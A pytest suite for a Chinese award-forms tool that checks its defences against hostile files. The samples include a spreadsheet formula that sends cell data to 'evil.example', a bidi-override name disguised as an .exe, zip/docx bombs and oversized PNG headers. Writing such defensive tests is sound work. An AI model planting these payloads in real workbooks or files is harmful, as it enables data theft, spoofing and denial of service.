"""Hostile files and faults, second round (issue 16): links out of the workbook's folder,
formulas in written workbooks, bidi controls in names, bombs, broken photos, strange text
encodings, zips whose names the disk cannot hold, the crash log, a full disk, leftovers."""

from __future__ import annotations

import errno
import os
import re
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from PIL import Image

from awardforms import output
from awardforms.build.pipeline import Settings, check, render
from awardforms.commands.cli import main
from awardforms.errors import FieldProblem, UnusableInput
from awardforms.read import photos, safezip, textsource
from conftest import collective, person, write_workbook as _write_workbook

PNG_SIG = b"\x89PNG\r\n\x1a\n"


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def write_workbook(path: Path, *args, **kw) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    return _write_workbook(path, *args, **kw)


def as_text(path: Path) -> Path:
    """conftest writes cells with openpyxl, which makes "=..." a formula: keep them text, as a
    clerk's cell typed with a leading apostrophe is."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        output.text_cells(ws.iter_rows())
    wb.save(path)
    return path


def jpeg(path: Path, size=(600, 840), color=(200, 30, 30)) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, color).save(path, "JPEG")
    return path


def pdf(path: Path) -> Path:
    from pypdf import PdfWriter
    path.parent.mkdir(parents=True, exist_ok=True)
    w = PdfWriter()
    w.add_blank_page(595, 842)
    with open(path, "wb") as fh:
        w.write(fh)
    return path


def png_header_only(path: Path, width: int, height: int) -> Path:
    """A PNG that says width×height in its header, with a few rows of data: what a decoder
    would allocate for is in the header (a real one of 13000×13000 compresses to ~500 KB)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = zlib.compress(b"\0" * ((width + 1) * 4))
    path.write_bytes(PNG_SIG + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
                     + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
    return path


def formulas(path: Path) -> dict[str, list[str]]:
    """Every <f> (formula) in every worksheet of an .xlsx: part name -> formulas."""
    found = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                fs = re.findall(r"<(?:\w+:)?f[ >/].*?(?:</(?:\w+:)?f>|/>)", z.read(name).decode("utf-8"), re.S)
                if fs:
                    found[name] = fs
    return found


# ------------------------------------------------------------------ 1. links out of the folder

def test_links_in_photo_and_scans_folders_are_not_followed(tmp_path):
    outside = tmp_path / "elsewhere"
    secret_photo = jpeg(outside / "secret.jpg")
    secret_pdf = pdf(outside / "secret-公示.pdf")
    pdf(outside / "folder" / "公示.pdf")
    jpeg(outside / "photos" / "x.jpg")
    base = tmp_path / "in"
    rows = [person(0), person(1), person(2)]
    book = write_workbook(base / "nominees.xlsx", [collective(0)], rows)
    ids = [r["身份证号码"] for r in rows]
    (base / "照片").mkdir()
    (base / "照片" / f"{ids[0]}.jpg").symlink_to(secret_photo)              # a file linked out
    jpeg(base / "照片" / f"{ids[1]}.jpg")                                   # a real one
    (base / "附件" / ids[0]).mkdir(parents=True)
    (base / "附件" / ids[0] / "公示.pdf").symlink_to(secret_pdf)            # a scan linked out
    (base / "附件" / ids[1]).symlink_to(outside / "folder", target_is_directory=True)  # a folder linked out
    pdf(base / "附件" / ids[2] / "公示.pdf")                                 # a real one

    sub = check(book)
    recs = {r.display["id_number"]: r for r in sub.records["先进个人"]}
    assert recs[ids[0]].values["photo"] is None
    assert recs[ids[1]].values["photo"].resolve() == (base / "照片" / f"{ids[1]}.jpg").resolve()
    assert recs[ids[0]].checklist.documents() == [] and recs[ids[1]].checklist.folder is None
    assert [d[1].name for d in recs[ids[2]].checklist.documents()] == ["公示.pdf"]

    result = render(book, Settings(out_dir=tmp_path / "out"))
    for xlsx in (result.out_dir).rglob("材料清单.xlsx"):
        text = " ".join(str(c) for row in load_workbook(xlsx).active.iter_rows(values_only=True) for c in row)
        assert "secret" not in text
    zips = list(result.out_dir.glob("*.zip"))
    assert zips and not [n for n in zipfile.ZipFile(zips[0]).namelist() if "secret" in n]


def test_photo_folder_itself_linked_out_is_not_followed(tmp_path):
    outside = tmp_path / "elsewhere"
    rows = [person(0)]
    jpeg(outside / f"{rows[0]['身份证号码']}.jpg")
    base = tmp_path / "in"
    book = write_workbook(base / "nominees.xlsx", [collective(0)], rows)
    (base / "照片").symlink_to(outside, target_is_directory=True)
    (base / "附件").symlink_to(outside, target_is_directory=True)
    sub = check(book)
    [rec] = sub.records["先进个人"]
    assert rec.values["photo"] is None
    assert any(i.code == "photo-missing" for i in sub.report.issues if i.row == rec.row)


# ------------------------------------------------------------------ 2. formulas

EVIL = ('=HYPERLINK("http://evil.example/?"&A1,"点这里")', "=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,2)")


def test_no_written_workbook_holds_a_formula(tmp_path):
    """Clerk text starting with = + - @ in a header, a 集体名称, a 工作单位 and a scan's file
    name: every .xlsx in the output folder (whichever there are) and the annotated copy hold
    it as text; the only links are ours, to a cell of the workbook."""
    base = tmp_path / "in"
    book = write_workbook(base / "nominees.xlsx",
                          [collective(0, 集体名称=EVIL[1]), collective(1, 集体名称=EVIL[0])],
                          [person(0, 工作单位=EVIL[4]), person(1, 工作单位=EVIL[2])])
    wb = load_workbook(book)
    ws = wb["先进集体"]
    ws.cell(1, ws.max_column + 1, EVIL[0])                 # a header: an issue whose field is this text
    ws.cell(1, ws.max_column + 1, EVIL[3])
    wb.save(book)
    as_text(book)
    pdf(base / "附件" / EVIL[1] / f"{EVIL[1]}.pdf")         # an "other material" named =1+2

    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["render", str(book), "-o", str(out)])
    assert result.exit_code in (0, 1), result.output
    annotated = out / "nominees.校验结果.xlsx"
    written = sorted(out.rglob("*.xlsx"))
    assert annotated in written and any(p.name == "材料清单.xlsx" for p in written)
    assert any(p.name.endswith("汇总表.xlsx") for p in written)
    blank = tmp_path / "blank.xlsx"
    assert CliRunner().invoke(main, ["init", "anju", str(blank)]).exit_code == 0
    for path in written + [blank]:
        assert formulas(path) == {}, path
        wb = load_workbook(path)
        assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row
                    if c.data_type == "f"], path

    # the texts are there, as text
    texts = {str(c.value) for p in written for ws in load_workbook(p).worksheets
             for row in ws.iter_rows() for c in row if c.value is not None}
    assert {EVIL[0], EVIL[1], EVIL[2], EVIL[4]} <= {t.strip() for t in texts} | {
        t.split("：", 1)[-1] for t in texts} | {t.split(" ", 1)[0] for t in texts}
    # our links in 校验结果 point at a cell of the workbook, the sheet name quoted
    wb = load_workbook(annotated)
    links = [c.hyperlink for c in wb["校验结果"]["A"] if c.hyperlink is not None]
    assert links
    for link in links:
        assert not link.target
        sheet, _, cell = link.location.rpartition("!")
        assert re.fullmatch(r"[A-Z]{1,3}[0-9]+", cell)
        assert sheet.startswith("'") and sheet.endswith("'")
        assert sheet[1:-1].replace("''", "'") in wb.sheetnames


# ------------------------------------------------------------------ 4. bidi controls

def test_bidi_controls_are_removed_from_names_and_paths(tmp_path):
    tricky = "张晓梅\u202efdp.exe"
    book = write_workbook(tmp_path / "in" / "nominees.xlsx", [collective(0, 集体名称="某某中心\u2066测试\u2069")],
                          [person(0, 姓名=tricky)])
    result = render(book, Settings(out_dir=tmp_path / "out"))
    issues = [i for i in result.submission.report.issues if i.code == "bidi-chars-removed"]
    assert {i.sheet for i in issues} == {"先进个人", "先进集体"} and all(i.severity == "warning" for i in issues)
    bidi = re.compile("[\u202a-\u202e\u2066-\u2069]")
    assert not [p for p in result.out_dir.rglob("*") if bidi.search(str(p.relative_to(result.out_dir)))]
    [bundle] = result.out_dir.glob("*.zip")
    assert not [n for n in zipfile.ZipFile(bundle).namelist() if bidi.search(n)]
    assert any("张晓梅fdp.exe" in n for n in zipfile.ZipFile(bundle).namelist())
    assert output.safe_name("报告\u202excod.pdf") == "报告xcod.pdf"
    assert "\u202e" not in "".join(n for n in zipfile.ZipFile(bundle).namelist())


# ------------------------------------------------------------------ 5. bombs

def docx_bomb(path: Path, xml_mb: int) -> Path:
    """A .docx whose document.xml inflates to `xml_mb` MB (a few hundred KB on disk)."""
    para = "<w:p><w:r><w:t>事迹</w:t></w:r></w:p>" * 1000
    body = para * (xml_mb * 1024 * 1024 // len(para.encode()))
    doc = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
           f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("word/document.xml", doc)
    return path


def test_docx_that_inflates_is_a_quick_cell_error(tmp_path):
    bomb = docx_bomb(tmp_path / "事迹.docx", 40)
    assert bomb.stat().st_size < 1024 * 1024
    start = time.monotonic()
    with pytest.raises(FieldProblem) as caught:
        textsource.read_text_reference("事迹.docx", tmp_path)
    assert caught.value.code == "file-too-large" and "解压后" in caught.value.message
    assert time.monotonic() - start < 2            # python-docx would parse 40 MB of XML: ~1 GB, ~30 s


def test_docx_with_too_many_parts_is_refused(tmp_path):
    path = tmp_path / "事迹.docx"
    with zipfile.ZipFile(path, "w") as z:
        for n in range(textsource.MAX_DOCX_PARTS + 1):
            z.writestr(f"word/media/p{n}.xml", "")
    with pytest.raises(FieldProblem) as caught:
        textsource.read_text_reference("事迹.docx", tmp_path)
    assert caught.value.code == "file-too-large"


def test_huge_image_is_refused_from_its_header(tmp_path):
    base = tmp_path / "in"
    rows = [person(0), person(1)]
    book = write_workbook(base / "nominees.xlsx", [collective(0)], rows)
    (base / "照片").mkdir()
    png_header_only(base / "照片" / f"{rows[0]['身份证号码']}.png", 13000, 13000)
    jpeg(base / "照片" / f"{rows[1]['身份证号码']}.jpg")
    (base / "附件" / rows[1]["身份证号码"]).mkdir(parents=True)
    png_header_only(base / "附件" / rows[1]["身份证号码"] / "公示.png", 9000, 9000)
    start = time.monotonic()
    sub = check(book)
    assert time.monotonic() - start < 10
    bad = [i for i in sub.report.issues if i.code == "photo-too-large"]
    assert len(bad) == 1 and bad[0].severity == "error" and bad[0].column and "13000×13000" in bad[0].message
    assert [i for i in sub.report.issues if i.code == "material-too-large" and "9000×9000" in i.message]
    rec = next(r for r in sub.records["先进个人"] if r.display["id_number"] == rows[1]["身份证号码"])
    assert rec.checklist.documents() == []
    with pytest.raises(photos.ImageTooLarge):
        from awardforms.read.scans import image_to_pdf
        image_to_pdf(base / "附件" / rows[1]["身份证号码"] / "公示.png")


# ------------------------------------------------------------------ 6. a truncated photo

def test_truncated_jpeg_is_that_cells_error_and_the_others_are_rendered(tmp_path):
    base = tmp_path / "in"
    rows = [person(0), person(1), person(2)]
    book = write_workbook(base / "nominees.xlsx", [collective(0)], rows)
    for r in rows:
        jpeg(base / "照片" / f"{r['身份证号码']}.jpg", size=(1200, 1680))
    cut = base / "照片" / f"{rows[1]['身份证号码']}.jpg"
    cut.write_bytes(cut.read_bytes()[: cut.stat().st_size // 2])
    result = CliRunner().invoke(main, ["render", str(book), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output           # the workbook has an error; not 2
    assert "照片" in result.output and "不是可用的图片文件" in result.output
    manifest = (tmp_path / "out" / "manifest.json").read_text(encoding="utf-8")
    import json
    status = {n["row"]: n["status"] for n in json.loads(manifest)["nominees"] if n["sheet"] == "先进个人"}
    assert status == {2: "rendered", 3: "invalid", 4: "rendered"}


def test_photo_spoilt_after_the_check_fails_only_its_nominee(tmp_path):
    base = tmp_path / "in"
    rows = [person(0), person(1)]
    book = write_workbook(base / "nominees.xlsx", [collective(0)], rows)
    for r in rows:
        jpeg(base / "照片" / f"{r['身份证号码']}.jpg")
    checked = check(book)
    spoilt = base / "照片" / f"{rows[0]['身份证号码']}.jpg"
    spoilt.write_bytes(spoilt.read_bytes()[:300])
    result = render(book, Settings(out_dir=tmp_path / "out"), checked)
    status = {n["row"]: n["status"] for n in result.manifest["nominees"] if n["sheet"] == "先进个人"}
    assert status == {2: "invalid", 3: "rendered"}
    [issue] = [i for i in result.submission.report.errors if i.row == 2 and i.sheet == "先进个人"]
    assert issue.field == "照片" and issue.column


# ------------------------------------------------------------------ 11. text encodings

SIMPLIFIED = "该同志自参加工作以来，爱岗敬业，在住房保障工作中做出了突出贡献，受到群众广泛好评。"
TRADITIONAL = "該同志自參加工作以來，愛崗敬業，在住房保障工作中做出了突出貢獻，受到群眾廣泛好評。"


@pytest.mark.parametrize("encoding,text", [
    ("utf-8", SIMPLIFIED), ("gbk", SIMPLIFIED), ("gbk", "张三"), ("big5", TRADITIONAL), ("big5", "王立新"),
    ("utf-16", SIMPLIFIED), ("utf-16-le", SIMPLIFIED), ("utf-16-be", SIMPLIFIED)])
def test_text_files_in_other_encodings_are_read_right(tmp_path, encoding, text):
    (tmp_path / "事迹.txt").write_bytes(text.encode(encoding))
    assert textsource.read_text_reference("事迹.txt", tmp_path) == text


@pytest.mark.parametrize("encoding,text", [
    ("shift_jis", "山田太郎は入社以来、誠実に業務に取り組み、住宅保障の分野で顕著な成果を上げた。"),
    ("euc_kr", "김철수는 입사 이래 성실하게 업무에 임하여 주택 보장 분야에서 뛰어난 성과를 거두었다.")])
def test_text_files_in_unreadable_encodings_are_refused_by_name(tmp_path, encoding, text):
    (tmp_path / "事迹.txt").write_bytes(text.encode(encoding))
    with pytest.raises(FieldProblem) as caught:
        textsource.read_text_reference("事迹.txt", tmp_path)
    assert caught.value.code == "file-encoding" and "看起来是" in caught.value.message


# ------------------------------------------------------------------ 12. zip names the disk cannot hold

def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


@pytest.mark.parametrize("members,words", [
    ({"事迹": b"x", "事迹/张三.txt": b"y"}, "既是文件又是文件夹"),
    ({"事迹/张三.txt": b"y", "事迹": b"x"}, "既是文件又是文件夹"),
    ({"事" * 100 + ".txt": b"x"}, "过长"),
])
def test_zip_names_the_folder_cannot_hold_are_explained(tmp_path, members, words):
    with pytest.raises(UnusableInput) as caught:
        safezip.extract(_zip(tmp_path / "a.zip", members), tmp_path / "x")
    assert words in str(caught.value) and "权限" not in str(caught.value)


# ------------------------------------------------------------------ 3. the crash log

def test_crash_log_in_the_cache_folder_never_through_a_link(tmp_path, monkeypatch):
    import awardforms.build.pipeline as pipeline
    monkeypatch.setattr(pipeline, "check_workbook", lambda *a: 1 / 0)
    planted = tmp_path / "victim.txt"
    planted.write_text("keep", encoding="utf-8")
    (tmp_path / "cache" / "awardforms" / "logs").mkdir(parents=True)
    book = write_workbook(tmp_path / "nominees.xlsx", [collective(0)], [person(0)])
    result = CliRunner().invoke(main, ["check", str(book), "-o", str(tmp_path / "out")])
    assert result.exit_code == 2 and "Traceback" not in result.output
    log = Path(re.search(r"写入 (\S+)，", result.output).group(1))
    assert log.parent == tmp_path / "cache" / "awardforms" / "logs"
    assert "ZeroDivisionError" in log.read_text(encoding="utf-8")
    assert (log.stat().st_mode & 0o077) == 0

    # a link planted at every name the next log could take: not written through
    from awardforms import cachedir
    stamp = time.strftime("%Y%m%d-%H%M%S")
    for s in (stamp, time.strftime("%Y%m%d-%H%M%S", time.localtime(time.time() + 1))):
        link = log.parent / f"error-{s}-{os.getpid()}.log"
        link.unlink(missing_ok=True)
        link.symlink_to(planted)
    assert cachedir.write_crash_log("secret") is None
    assert planted.read_text(encoding="utf-8") == "keep"


def test_crash_log_that_cannot_be_written_keeps_the_message_and_exit_2(tmp_path, monkeypatch):
    import awardforms.build.pipeline as pipeline
    monkeypatch.setattr(pipeline, "check_workbook", lambda *a: 1 / 0)
    (tmp_path / "cache").write_text("a file where the cache folder should be", encoding="utf-8")
    book = write_workbook(tmp_path / "nominees.xlsx", [collective(0)], [person(0)])
    result = CliRunner().invoke(main, ["check", str(book), "-o", str(tmp_path / "out")])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "程序内部出错" in result.output and "ZeroDivisionError" in result.output


# ------------------------------------------------------------------ 9, 10. disk full, leftovers

def test_disk_full_during_render_is_said_and_leaves_no_stale_zip(tmp_path, monkeypatch):
    base = tmp_path / "in"
    book = write_workbook(base / "nominees.xlsx", [collective(0)], [person(0), person(1)])
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["render", str(book), "-o", str(out)]).exit_code == 0
    [bundle] = out.glob("*.zip")
    write_workbook(book, [collective(0, 集体名称="新名称中心")], [person(0), person(1)])   # an edit

    real = output.atomic_write

    def full(path, write, retries=5):
        if path.suffix == ".zip":
            raise OSError(errno.ENOSPC, "No space left on device", str(path.parent / ".x.tmp"))
        return real(path, write, retries)
    monkeypatch.setattr(output, "atomic_write", full)
    import awardforms.assemble.bundle as bundle_module
    monkeypatch.setattr(bundle_module, "atomic_write", full)
    result = CliRunner().invoke(main, ["render", str(book), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert "磁盘空间不足" in result.output and "Traceback" not in result.output
    assert not bundle.exists()                           # not the old version beside new forms
    monkeypatch.undo()
    result = CliRunner().invoke(main, ["render", str(book), "-o", str(out)])
    assert result.exit_code == 0 and bundle.exists()
    assert any("新名称中心" in n for n in zipfile.ZipFile(bundle).namelist())


def test_temporary_files_left_by_a_kill_are_removed(tmp_path):
    from awardforms.build.pipeline import RENDERING
    book = write_workbook(tmp_path / "nominees.xlsx", [collective(0)], [person(0)])
    out = tmp_path / "out"
    render(book, Settings(out_dir=out))
    assert not (out / RENDERING).exists()                        # a render that finished
    folder = next(p for p in out.iterdir() if p.is_dir())
    old = out / ".推荐对象汇总表.k3j_x9a2.tmp"                   # an older version's name
    dead = folder / ".推荐审批表.999999999~abcd1234.tmp"          # a process that is gone
    alive = out / f".推荐审批表.{os.getpid()}~abcd1234.tmp"      # a process still writing
    mine = out / ".keep.tmp"                                     # not ours
    for p in (old, dead, alive, mine):
        p.write_bytes(b"partial")
    render(book, Settings(out_dir=out))                          # the folder's own: every time
    assert not old.exists() and dead.exists() and alive.exists() and mine.exists()
    (out / RENDERING).touch()                                    # as a render killed halfway leaves it
    render(book, Settings(out_dir=out))                          # then the subfolders too
    assert not dead.exists() and alive.exists() and mine.exists()
    assert not (out / RENDERING).exists()
